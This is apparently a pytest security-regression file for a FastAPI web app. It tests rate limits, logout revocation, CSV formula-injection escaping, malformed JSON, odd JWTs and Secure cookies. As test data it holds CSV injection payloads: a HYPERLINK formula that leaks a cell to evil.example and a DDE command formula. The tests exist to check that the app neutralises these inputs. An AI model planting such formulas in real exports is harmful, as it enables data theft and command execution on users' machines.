"""The outside tester's findings (issue 18), each as the attack that worked: sign-in floods, sessions that outlive
logout, CSV formula injection, JSON that broke the error response, spoofed X-Forwarded-For, odd JWTs, creation
floods, and cookies without `Secure` over HTTPS."""

from __future__ import annotations

import csv
import io
import os
import threading
import time
from datetime import UTC, datetime, timedelta

import jwt
import pytest
from fastapi.testclient import TestClient

from app.accounts import set_active, set_password
from app.auth import passwords
from app.csv_export import csv_text, safe_cell
from app.main import create_app
from app.models import Role, User
from tests.utils.factories import PASSWORD, auth_headers, csrf_from, make_user, web_login

SECRET = "test-secret-key-that-is-long-enough-0123"  # the make_settings fixture's key


def client_at(app, address: str) -> TestClient:
    """A client whose requests come from `address` (the ASGI scope's client, as uvicorn sets it)."""
    return TestClient(app, client=(address, 40000))


def token_status(client: TestClient, username: str, password: str) -> int:
    return client.post("/api/auth/token", data={"username": username, "password": password}).status_code


# --- sign-in floods -----------------------------------------------------------------------------------------


@pytest.fixture
def login_app(make_settings, engine):
    return create_app(make_settings(rate_limit_login="3/minute", rate_limit_login_address="5/minute"), engine)


def test_many_names_from_one_address_are_limited(login_app):
    with client_at(login_app, "203.0.113.5") as attacker:
        statuses = [token_status(attacker, f"guess{n}", "wrong-password") for n in range(7)]
    assert statuses[:5] == [401] * 5
    assert statuses[5:] == [429, 429], "names tried from one address must count together"


def test_the_real_user_signs_in_while_their_name_is_hammered_from_elsewhere(login_app, session):
    user = make_user(session, Role.rep)
    with client_at(login_app, "203.0.113.5") as attacker, client_at(login_app, "198.51.100.7") as owner:
        statuses = [token_status(attacker, user.username, "wrong-password") for _ in range(5)]
        assert statuses[-1] == 429
        assert token_status(owner, user.username, PASSWORD) == 200


def test_concurrent_hashing_is_capped():
    """48 sign-ins at once run at most `concurrency` argon2 hashes together (the others wait), one per core by
    default: the flood costs threads, not 64 MiB and a core each."""
    running, peak, lock = [0], [0], threading.Lock()
    cheap = passwords.make_hasher("test")

    class Recording:
        def hash(self, password: str) -> str:
            return cheap.hash(password)

        def verify(self, password: str, hash: str) -> bool:
            with lock:
                running[0] += 1
                peak[0] = max(peak[0], running[0])
            time.sleep(0.02)
            with lock:
                running[0] -= 1
            return cheap.verify(password, hash)

    hashing = passwords.configure(hasher=Recording(), concurrency=2)
    try:
        stored = passwords.hash_password("secret-password")
        threads = [threading.Thread(target=passwords.verify_password, args=("guess", stored)) for _ in range(48)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        passwords.configure("test")
    assert hashing.concurrency == 2 and peak[0] == 2, peak
    assert passwords.configure("test").concurrency == (os.cpu_count() or 1), "one hash per core by default"


# --- sessions that outlive logout ---------------------------------------------------------------------------


def signed_in_copy(app, client: TestClient, username: str) -> TestClient:
    """Sign in on `client` and return a second client holding a copy of its session cookie (the stolen copy)."""
    web_login(client, username)
    thief = TestClient(app)
    thief.cookies.set("sc_session", client.cookies["sc_session"])
    return thief


def still_signed_in(client: TestClient) -> bool:
    return client.get("/", follow_redirects=False).status_code == 200


def test_logout_ends_a_copied_cookie_and_the_tokens(app, client, session):
    user = make_user(session, Role.rep)
    headers = auth_headers(client, user)
    with signed_in_copy(app, client, user.username) as thief:
        assert still_signed_in(thief)
        client.post("/logout", data={"csrf_token": csrf_from(client.get("/").text)})
        assert not still_signed_in(thief), "a copy of the cookie taken before logout still works"
    assert client.get("/api/me", headers=headers).status_code == 401, "a token from before logout still works"
    web_login(client, user.username)
    assert still_signed_in(client), "signing in again works"


def test_api_logout_ends_every_token(client, session):
    user = make_user(session, Role.rep)
    first, second = auth_headers(client, user), auth_headers(client, user)
    assert client.post("/api/auth/logout", headers=first).status_code == 204
    assert client.get("/api/me", headers=second).status_code == 401
    assert client.get("/api/me", headers=auth_headers(client, user)).status_code == 200


@pytest.mark.parametrize("change", ["password", "deactivate"])
def test_password_change_and_deactivation_end_sessions_and_tokens(app, client, session, change):
    user = make_user(session, Role.rep)
    headers = auth_headers(client, user)
    with signed_in_copy(app, client, user.username) as thief:
        stored = session.get(User, user.id)
        if change == "password":
            set_password(session, stored, "a-new-password-2")
        else:
            set_active(session, stored, False)
        assert not still_signed_in(thief)
    assert client.get("/api/me", headers=headers).status_code == 401


# --- CSV formula injection ----------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_every_formula_start_is_neutralised():
    cells = next(csv.reader(io.StringIO(csv_text([[*FORMULAS, "plain", 42, -1.5, ""]]))))
    assert cells[: len(FORMULAS)] == ["'" + formula for formula in FORMULAS]
    assert cells[len(FORMULAS) :] == ["plain", "42", "-1.5", ""], "numbers and plain text stay as they are"
    assert safe_cell("a=b") == "a=b"


def test_flow_note_csv_export_neutralises_formulas(client, session):
    headers = auth_headers(client, make_user(session, Role.rep))
    answers = {"account": FORMULAS[0], "is_real": "yes", "can_solve": "yes", "can_win": "yes", "worth_it": "yes"}
    response = client.post("/api/flows/opportunity_check/runs", json={}, headers=headers)
    run_id, step, reply = response.json()["run_id"], response.json()["step"], {}
    while step is not None:
        answer = answers.get(step["id"], "客户在启动会上确认了预算和时间表，三位负责人都参加了。")
        reply = client.post(f"/api/flow-runs/{run_id}/answers", json={"answer": answer}, headers=headers).json()
        step = reply.get("step")
    exported = client.get(f"/api/notes/{reply['note_id']}/export?format=csv", headers=headers)
    cells = [cell for row in csv.reader(io.StringIO(exported.text.lstrip("\ufeff"))) for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], cells


def test_team_csv_export_neutralises_formulas(client, session):
    from app.accounts import create_user

    manager = make_user(session, Role.manager, team="A组")
    create_user(session, "formula-rep", PASSWORD, Role.rep, "A组", display_name="=cmd|' /C calc'!A0")
    headers = auth_headers(client, manager)
    drill = {
        "scenario_id": "mfg_vitamin_erp",
        "team": "A组",
        "due": (datetime.now(UTC) + timedelta(days=3)).date().isoformat(),
        "pass_score": 60,
    }
    assert client.post("/api/drills", json=drill, headers=headers).status_code == 201
    text = client.get("/api/team/export.csv", headers=headers).text
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells


# --- JSON the error response could not encode ---------------------------------------------------------------

BAD_JSON = [
    b'{"question": "\\ud800"}',
    b'{"question": "ok\\udc00"}',
    b'{"\\ud800": 1}',
    b'{"question": NaN}',
    b'{"question": Infinity}',
    b'{"question": -Infinity}',
    b'{"question": 1e400}',
    b'{"question": "\xed\xa0\x80"}',
    b'{"scenario_id": "\\udc00x"}',
]


@pytest.mark.parametrize("url", ["/api/ask", "/api/roleplays", "/api/opportunities", "/api/coach/spin"])
def test_lone_surrogates_and_non_numbers_answer_422(client, session, url):
    headers = auth_headers(client, make_user(session, Role.rep)) | {"content-type": "application/json"}
    statuses = {body: client.post(url, content=body, headers=headers).status_code for body in BAD_JSON}
    assert set(statuses.values()) == {422}, statuses


def test_a_surrogate_pair_is_still_welcome(client, session):
    headers = auth_headers(client, make_user(session, Role.rep)) | {"content-type": "application/json"}
    response = client.post("/api/ask", content='{"question": "SPIN \\ud83d\\ude00 是什么？"}'.encode(), headers=headers)
    assert response.status_code == 200, response.text


# --- JWTs ---------------------------------------------------------------------------------------------------


def signed(claims: dict) -> dict:
    return {"Authorization": f"Bearer {jwt.encode(claims, SECRET, algorithm='HS256')}"}


def test_tokens_with_odd_subjects_or_no_expiry_answer_401(client, session):
    user = make_user(session, Role.rep)
    later = datetime.now(UTC) + timedelta(minutes=5)
    odd = [
        {"sub": "99999999999999999999", "ver": 0, "exp": later},
        {"sub": "-1", "ver": 0, "exp": later},
        {"sub": "1.5", "ver": 0, "exp": later},
        {"sub": "abc", "ver": 0, "exp": later},
        {"sub": " 1", "ver": 0, "exp": later},
        {"sub": "٣", "ver": 0, "exp": later},
        {"sub": str(user.id), "ver": 0},
        {"sub": str(user.id), "exp": later},
        {"sub": str(user.id), "ver": 99999999999999999999, "exp": later},
    ]
    statuses = [client.get("/api/me", headers=signed(claims)).status_code for claims in odd]
    assert statuses == [401] * len(odd)
    assert client.get("/api/me", headers=signed({"sub": str(user.id), "ver": 0, "exp": later})).status_code == 200


# --- creation floods ----------------------------------------------------------------------------------------


@pytest.fixture
def daily_client(make_settings, engine):
    app = create_app(
        make_settings(
            rate_limit_roleplays_daily="2/day", rate_limit_deals_daily="2/day", rate_limit_flow_runs_daily="2/day"
        ),
        engine,
    )
    with TestClient(app) as client:
        yield client


CREATIONS = [
    ("/api/roleplays", {"scenario_id": "mfg_vitamin_erp"}, "role-plays"),
    ("/api/opportunities", {"account": "华东精工"}, "deals"),
    ("/api/flows/opportunity_check/runs", {}, "flow runs"),
]


@pytest.mark.parametrize("url, body, what", CREATIONS, ids=[c[2] for c in CREATIONS])
def test_daily_creation_limits(daily_client, session, url, body, what):
    headers = auth_headers(daily_client, make_user(session, Role.rep))
    assert [daily_client.post(url, json=body, headers=headers).status_code for _ in range(2)] == [201, 201]
    limited = daily_client.post(url, json=body, headers=headers)
    assert limited.status_code == 429
    assert limited.json()["detail"].startswith("Daily limit reached: at most 2 " + what), limited.text
    assert int(limited.headers["retry-after"]) > 3600
    other = auth_headers(daily_client, make_user(session, Role.rep))
    assert daily_client.post(url, json=body, headers=other).status_code == 201, "the limit is per user"


def test_daily_limit_on_the_pages_is_a_readable_page(daily_client, session):
    user = make_user(session, Role.rep)
    web_login(daily_client, user.username)
    csrf = {"X-CSRF-Token": csrf_from(daily_client.get("/").text)}
    for _ in range(2):
        assert (
            daily_client.post(
                "/pipeline/opportunities", data={"account": "华东精工"}, headers=csrf, follow_redirects=False
            ).status_code
            == 303
        )
    page = daily_client.post(
        "/pipeline/opportunities", data={"account": "华东精工"}, headers=csrf | {"Accept": "text/html"}
    )
    assert page.status_code == 429 and "每日上限" in page.text


# --- Secure cookies over HTTPS ------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_cookies_are_secure_over_https(app, session, scheme):
    user = make_user(session, Role.rep)
    with TestClient(app, base_url=f"{scheme}://testserver") as client:
        login_page = client.get("/login")
        cookies = login_page.headers.get_list("set-cookie")
        assert cookies, "the login page starts a session"
        web_login(client, user.username)
        cookies += client.get("/lang/en", follow_redirects=False).headers.get_list("set-cookie")
    secure = ["; secure" in cookie.lower() for cookie in cookies]
    assert all(secure) if scheme == "https" else not any(secure), cookies
